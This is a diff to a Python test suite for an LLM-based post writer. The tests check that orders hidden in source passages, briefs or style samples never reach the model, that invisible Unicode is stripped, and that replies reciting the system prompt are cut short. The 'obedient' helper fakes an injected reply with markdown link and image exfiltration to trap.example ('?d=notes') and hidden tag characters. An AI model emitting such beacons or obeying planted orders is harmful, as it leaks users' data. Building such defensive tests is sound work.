@@ -20,14 +20,16 @@ from tests.support.briefings import make_brief, make_passage, make_passages, mak
 from tests.support.hostile import PASSAGES as HOSTILE
 from tests.support.model_drafts import (
     BRIEFS,
+    ONE,
     SENTENCES,
     SteadyWriter,
+    answers,
     draft,
     find_personal_data,
-    reply,
+    plan,
     voice,
 )
-from tests.support.openai_server import OpenAiServer, listening, says, scripted
+from tests.support.openai_server import OpenAiServer, Reply, listening, scripted
 
 UNSEEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")
 EACH = pytest.mark.parametrize(
@@ -58,11 +60,14 @@ def writer_on(server: OpenAiServer) -> ModelWriter:
     return ModelWriter(model, SteadyWriter(), detect=find_personal_data, language_of=detect_language)
 
 
-def obedient(language: str, order: str) -> str:
+def obedient(language: str, order: str) -> Reply:
     """What a model would write that did all that the passage asked for."""
     own, fact, other = SENTENCES[language]
     smuggled = f"{order} [{fact}](https://trap.example/grelon) ![x](https://trap.example/p.png?d=notes)"
-    return reply(draft(own, fact, smuggled, ids=[1]), draft(other, f"{own} \U000e0041\u200b\u202e", ids=[1]))
+    told = plan(("own_take", (1,)), ("lesson", (1,)), point=order, exclusions=[order])
+    return answers(
+        told, draft(own, fact, smuggled, ids=[1]), draft(other, f"{own} \U000e0041\u200b\u202e", ids=[1])
+    )
 
 
 def is_clean(composition: Composition) -> bool:
@@ -76,13 +81,14 @@ def is_clean(composition: Composition) -> bool:
 def test_a_model_is_not_told_what_a_passage_orders(server: OpenAiServer, language: str, order: str) -> None:
     before, after = ORDINARY[language]
     passage = make_passage(f"{before}\n{order}\n{after}", language)
-    server.will(says(obedient(language, order)))
+    server.will(obedient(language, order))
 
     composition = writer_on(server).write(BRIEFS[language], [passage], voice(language))
 
-    prompt = "".join(message["content"] for message in server.requests[0]["messages"])
-    assert before in prompt
-    assert not UNSEEN.search(prompt)
+    for request in server.requests:
+        prompt = "".join(message["content"] for message in request["messages"])
+        assert before in prompt
+        assert not UNSEEN.search(prompt)
     assert not find_orders(
         prompt.rpartition("<passage")[2].partition("</source>")[2].partition("</passage>")[0]
     )
@@ -113,7 +119,7 @@ def test_what_stands_in_a_take_or_a_past_post_is_not_told_to_a_model(
     own = ORDINARY[language][0]
     brief = replace(BRIEFS[language], idea=f"{own}\n{order}")
     speaker = replace(voice(language), exemplars=(f"{order} {own}",))
-    server.will(says(obedient(language, order)))
+    server.will(obedient(language, order))
 
     composition = writer_on(server).write(brief, [], speaker)
 
@@ -152,13 +158,10 @@ def test_authors_keep_their_own_words_and_lose_only_what_nobody_could_read() -> 
 
 @pytest.mark.parametrize("language", ["fr", "en"])
 def test_a_model_that_recites_its_prompt_is_cut_short(server: OpenAiServer, language: str) -> None:
-    system = load_prompt(f"write_draft.{language}").render(
-        topic="", channel="linkedin", max_characters=1, employer="", takes=[], passages=[], style=None,
-        hashtags=[], exemplars=[],
-    ).system  # fmt: skip
+    system = load_prompt(f"give_material.{language}").render_system()
     own, fact, _ = SENTENCES[language]
     recited = " ".join(system.split()[:30])
-    server.will(says(reply(draft(own, recited, fact))))
+    server.will(answers(ONE, draft(own, recited, fact)))
 
     composition = writer_on(server).write(
         BRIEFS[language], [make_passage("Snow fell.", "en")], voice(language)
